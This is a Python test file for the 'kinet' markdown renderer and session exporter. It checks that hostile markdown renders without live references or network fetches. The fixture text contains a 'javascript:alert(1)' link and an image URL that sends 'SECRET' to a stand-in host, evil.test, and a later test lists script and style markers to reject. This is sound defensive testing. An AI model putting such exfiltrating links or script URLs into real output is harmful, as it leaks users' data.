"""`kinet render` and exports: the same rendering without a window, and nothing is ever fetched."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.markdown_cases import cases, pieces

SOURCE = """# A title

Costs $5 and $6, but $x^2$ is drawn. See [the page](https://evil.test/login)
and [run](javascript:alert(1)) ![p](http://evil.test/a.png?d=SECRET).

שלום עולם

```python
print("<b>")
```
"""


def test_render_says_what_would_be_shown(kinet, tmp_path: Path) -> None:
    file = tmp_path / "a.md"
    file.write_text(SOURCE, encoding="utf-8")
    page, picture = tmp_path / "a.html", tmp_path / "a.png"
    ran = kinet("render", str(file), "--html", str(page), "--png", str(picture))
    assert ran.code == 0, ran.err
    told = ran.json
    assert [block["kind"] for block in told["blocks"]] == [
        "heading", "paragraph", "paragraph", "code",
    ]  # fmt: skip
    assert told["blocks"][2]["direction"] == "rtl"
    assert told["links"][0] == {
        "text": "the page",
        "target": "https://evil.test/login",
        "host": "evil.test",
        "allowed": True,
    }
    assert told["links"][1]["allowed"] is False
    assert told["blocked"] == ["javascript:alert(1)", "http://evil.test/a.png?d=SECRET"]
    assert (told["formulas"], told["requests"]) == (1, 0)
    html = page.read_text(encoding="utf-8")
    assert "src=" not in html
    assert "javascript" not in html.replace('class="aside">javascript:alert(1)', "")
    assert "evil.test</span>" in html
    assert "<svg" in html
    assert picture.read_bytes().startswith(b"\x89PNG")


def test_a_file_that_is_not_there_is_said_in_one_sentence(kinet, tmp_path: Path) -> None:
    ran = kinet("render", str(tmp_path / "none.md"))
    assert ran.code == 1
    assert "cannot be read" in ran.err


def test_a_session_is_exported_without_a_live_reference(kinet, tmp_path: Path) -> None:
    messages = [
        {"role": "user", "content": "Show <b>it</b>"},
        {"role": "assistant", "content": SOURCE},
    ]
    file = tmp_path / "messages.jsonl"
    file.write_text("\n".join(json.dumps(one) for one in messages), encoding="utf-8")
    session_id = kinet("sessions", "import", str(file)).out.strip()
    html = kinet("sessions", "export", session_id, "--format", "html").out
    assert "&lt;b&gt;it&lt;/b&gt;" in html
    assert '<h1 dir="auto">A title</h1>' in html
    assert "src=" not in html
    assert 'class="string"' in html
    markdown = kinet("sessions", "export", session_id, "--format", "md").out
    assert SOURCE.strip() in markdown
    whole = json.loads(kinet("sessions", "export", session_id, "--format", "json").out)
    assert [one["role"] for one in whole["messages"]] == ["user", "assistant"]


@pytest.mark.parametrize("case", cases(), ids=lambda case: case["id"])
def test_no_page_of_a_hostile_text_holds_a_live_reference(case: dict[str, object]) -> None:
    from kinet.markup.page import body_html

    html = body_html("".join(pieces(case)))
    for sign in (" src=", "<img", "<script", "<style", " style=", "url(", "background=", "onload="):
        assert sign not in _tags(html), sign
    for address in _hrefs(html):
        assert address.lower().startswith(("http://", "https://", "mailto:"))


def _tags(html: str) -> str:
    """What stands inside tags: text may say anything."""
    return " ".join(f"<{part.partition('>')[0]}" for part in html.split("<")[1:])


def _hrefs(html: str) -> list[str]:
    return [part.partition('"')[0] for part in html.split('href="')[1:]]
